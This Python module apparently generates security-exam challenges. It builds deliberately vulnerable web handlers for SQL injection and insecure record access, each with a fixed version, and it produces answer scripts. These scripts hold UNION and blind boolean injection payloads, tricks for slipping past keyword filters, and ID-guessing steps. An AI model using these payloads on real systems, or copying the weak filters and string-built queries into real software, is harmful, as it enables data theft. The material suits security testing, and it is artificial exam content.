# SPDX-License-Identifier: Apache-2.0
"""Weaknesses of `web.*` in how data is fetched: SQL injection and records of other people."""

from __future__ import annotations

from collections.abc import Mapping
from string import Template

from proofhouse.exam.families._stream import Stream
from proofhouse.exam.families._web_flaw import Flaw

VAULT = Template("""\
rows("CREATE TABLE $vault ($key TEXT, $value TEXT)")
for entry in [("$second", "$decoy"), ("$entry", SECRET), ("$third", "none")]:
    rows("INSERT INTO $vault VALUES (?, ?)", entry)
""")

SEARCH = Template('''\
def find_page(ask):
    """Goods whose title holds the words."""
    words = ask.get("$query")
$screen    found = rows($statement)
    return page("Found", ["%s: %s" % entry for entry in found])
''')

KEEP = Template('''\
rows("CREATE TABLE $kept (words TEXT)")


def keep_page(ask):
    """Keeps a search and tells its number."""
    words = ask.get("$query")
$screen    with LOCK:
        number = DB.execute("INSERT INTO $kept VALUES (?)", (words,)).lastrowid
    return page("Kept", [number])


def count_page(ask):
    """How many goods a kept search finds now."""
    [(words,)] = rows("SELECT words FROM $kept WHERE rowid = ?", (ask.get("$number"),))
    [(total,), *_] = rows($statement)
    return page("Count", ["%d" % total])
''')

SCREENS = {
    "strip": (
        '    for word in ("union", "select", "from"):\n        words = re.sub(word, "", words, flags=re.IGNORECASE)\n',
        "it takes the words union, select and from out of what is asked, once each",
    ),
    "case": (
        '    if any(word in words or word.upper() in words for word in ("union", "select", "from")):\n'
        '        raise Refused("words of SQL")\n',
        "it refuses the words union, select and from in small and in capital letters",
    ),
    "blanks": (
        '    if re.search(r"\\s|--|;", words):\n        raise Refused("blanks and comments")\n',
        "it refuses blanks, semicolons and the comment sign --",
    ),
}
"""Name to program text and what it does: filters that do not filter."""


def _through(screen: str, words: str) -> str:
    """An injection as it must be written to pass a screen."""
    match screen:
        case "strip":
            for word in ("UNION", "SELECT", "FROM"):
                words = words.replace(word, word[:2] + word.lower() + word[2:])
        case "case":
            for word in ("UNION", "SELECT", "FROM"):
                words = words.replace(word, word.capitalize())
        case "blanks":
            words = words.replace(" ", "/**/")
    return words


def sqli(names: Mapping[str, str], stream: Stream, level: int) -> Flaw:
    """Text of a visitor inside a statement (CWE-89)."""
    decoy = stream.token(16).hex()
    screen = "" if level == 0 else stream.choice(sorted(SCREENS))
    code, guard = SCREENS.get(screen, ("", ""))
    vault = VAULT.substitute(names, decoy=decoy)
    like = f"{names['title']} LIKE"
    if level == 2:
        shape, head = KEEP, f"SELECT count(*) FROM {names['goods']} WHERE {like}"  # noqa: S608 - the weakness, in a program that runs in a box
        tail = ""
        routes = {f"/{names['keep']}": "keep_page", f"/{names['count']}": "count_page"}
    else:
        shape = SEARCH
        head = f"SELECT {names['title']}, {names['price']} FROM {names['goods']} WHERE {like}"  # noqa: S608 - as above
        tail = f" ORDER BY {names['title']}"
        routes = {f"/{names['find']}": "find_page"}
    weak = f'"{head} \'%" + words + "%\'{tail}"'
    right = f'"{head} ?{tail}", ("%" + words + "%",)'
    body, fixed = (
        f"{vault}\n\n{shape.substitute(names, screen=code, statement=statement)}"
        for statement in (weak, right)
    )
    wanted = f"SELECT {names['value']} FROM {names['vault']} WHERE {names['key']}='{names['entry']}'"  # noqa: S608 - as above
    if level == 2:
        guess = f"zz' OR rowid <= instr('0123456789abcdef', substr(({wanted}), %d, 1)) AND 'a' LIKE 'a"
        script = (
            f"words = {_through(screen, guess)!r}\nfound = ''\nfor place in range(1, 33):\n"
            f"    number = get('/{names['keep']}', {names['query']}=words % place).split()[-1]\n"
            f"    count = get('/{names['count']}', {names['number']}=number).split()[-1]\n"
            "    found += '0123456789abcdef'[int(count) - 1]\nprint(found)\n"
        )
    else:
        union = f"zz' UNION {wanted.replace(' FROM', ', 1 FROM', 1)} AND 'a' LIKE 'a"
        script = f"print(token(get('/{names['find']}', {names['query']}={_through(screen, union)!r})))\n"
    return Flaw(
        body,
        fixed,
        routes,
        f"the entry {names['entry']} of its vault, a table that no page shows",
        script,
        where=names["count"] if level == 2 else names["find"],
        guard=guard,
        decoy=decoy,
    )


PEOPLE = Template('''\
PEOPLE = {$accounts}
SIGNED_IN = {}
PAPERS = $papers


def signin_page(ask):
    """Gives a cookie to who knows the word of a person."""
    person, word = ask.get("$person"), ask.get("$word")
    if not word or not hmac.compare_digest(PEOPLE.get(person, "").encode(), word.encode()):
        raise Refused("person or word")
    crumb = secrets.token_hex(16)
    SIGNED_IN[crumb] = person
    ask.keep = "$cookie=" + crumb
    return page("Welcome", [person])


def whose(ask):
    """The person who asks."""
    person = SIGNED_IN.get(ask.cookies.get("$cookie", ""))
    if person is None:
        raise Refused("sign in first")
    return person


$naming


def mine_page(ask):
    """The papers of the person who asks."""
    person = whose(ask)
    return page("Papers", [name_of(at) for at, (owner, _) in enumerate(PAPERS) if owner == person])


def paper_page(ask):
    """One paper."""
    person = whose(ask)
    owner, text = PAPERS[place_of(ask.get("$number"))]
$check    return page("Paper", ["of " + owner, text])


$extra
''')

OWN = '    if owner != person:\n        raise Refused("it is not yours")\n'

NAMINGS = {
    "plain": Template("""\
def name_of(at):
    return str(at + $start)


def place_of(name):
    return int(name) - $start
"""),
    "affine": Template("""\
def name_of(at):
    return "%06x" % ((at * $factor + $start) % 16777216)


def place_of(name):
    return [name_of(at) for at in range(len(PAPERS))].index(name)
"""),
    "checked": Template("""\
def name_of(at):
    text = "%d:%d" % (at + $start, binascii.crc32(b"$person" + str(at).encode()))
    return base64.urlsafe_b64encode(text.encode()).decode()


def place_of(name):
    return [name_of(at) for at in range(len(PAPERS))].index(name)
"""),
    "base64": Template("""\
def name_of(at):
    return base64.urlsafe_b64encode(b"$paper/%d" % (at + $start)).decode()


def place_of(name):
    return int(base64.urlsafe_b64decode(name).decode().partition("/")[2]) - $start
"""),
    "random": Template("""\
NAMES = [secrets.token_hex(8) for _ in PAPERS]


def name_of(at):
    return NAMES[at]


def place_of(name):
    return NAMES.index(name)
"""),
}
"""How a paper's place in the list becomes its public name."""

SHARED = Template('''\
def recent_page(ask):
    """What was touched last, without the text."""
    whose(ask)
    return page("Recent", ["%s of %s" % (name_of(at), owner) for at, (owner, _) in enumerate(PAPERS)])


def card_page(ask):
    """A paper as it is printed, for its owner."""
    person = whose(ask)
    owner, text = PAPERS[place_of(ask.get("$number"))]
    if owner != $reader:
        raise Refused("it is not yours")
    return page("Print", [text])
''')


def idor(names: Mapping[str, str], stream: Stream, level: int) -> Flaw:
    """A record is given to whoever names it (CWE-639)."""
    people = [f"{names['person']}{number}" for number in range(1, 6)]
    me, holder = stream.sample(people, 2)
    accounts = {person: stream.token(6).hex() for person in people}
    decoy = stream.token(16).hex()
    papers = [(stream.choice(people), f"bill no. {stream.between(100, 999)}") for _ in range(24)]
    place, own, other = stream.sample(range(24), 3)
    papers[own], papers[other] = (me, f"draft {decoy}"), (holder, "empty")
    listed = [f"    ({owner!r}, {text!r})," for owner, text in papers]
    listed[place] = f"    ({holder!r}, SECRET),"
    kind = ("plain", stream.choice(("affine", "checked")), "random", "base64")[level]
    naming = NAMINGS[kind].substitute(
        names, start=stream.between(1000, 9000), factor=stream.between(100_000, 900_000) * 2 + 1
    )
    given = 'ask.get("' + names["owner"] + '")'
    routes = {
        f"/{names['signin']}": "signin_page",
        f"/{names['mine']}": "mine_page",
        f"/{names['paper']}": "paper_page",
    }
    if level == 2:
        routes |= {f"/{names['recent']}": "recent_page", f"/{names['card']}": "card_page"}

    def body(*, weak: bool) -> str:
        return PEOPLE.substitute(
            names,
            accounts=", ".join(f'"{person}": "{word}"' for person, word in accounts.items() if person == me)
            + "".join(f', "{person}": secrets.token_hex(16)' for person in people if person != me),
            papers="[\n" + "\n".join(listed) + "\n]",
            naming=naming,
            check="" if weak and level != 2 else OWN,
            extra=SHARED.substitute(names, reader=given if weak else "person") if level == 2 else "",
        )

    fields = f"{names['person']}={me!r}, {names['word']}={accounts[me]!r}"
    sign = f"get('/{names['signin']}', {fields})\ncookie = get.cookie\n"
    if level == 2:
        steps = (
            f"seen = get('/{names['recent']}', cookie).split('\\n')\n"
            f"for name in [line.split()[0] for line in seen if line.endswith('of {holder}')]:\n"
            f"    text = get('/{names['card']}', cookie, {names['number']}=name, {names['owner']}={holder!r})\n"
            "    if re.search('[0-9a-f]{32}', text):\n        print(token(text))\n"
        )
    else:
        steps = (
            "import base64, binascii\nPAPERS = range(24)\n"
            f"{naming}\nprint(token(get('/{names['paper']}', cookie, {names['number']}=name_of({place}))))\n"
        )
    return Flaw(
        body(weak=True),
        body(weak=False),
        routes,
        f"the paper of {holder} that holds nothing but 32 hexadecimal digits",
        sign + steps,
        where=names["card"] if level == 2 else names["paper"],
        guard={
            "plain": "",
            "affine": "papers have numbers that are counted in large steps",
            "checked": "papers have numbers with a checksum, in base64",
            "random": "papers have random names, which another page tells",
            "base64": "papers have numbers in base64",
        }[kind],
        decoy=decoy,
        known={"Your account": f"{names['person']} {me}, {names['word']} {accounts[me]}"},
    )
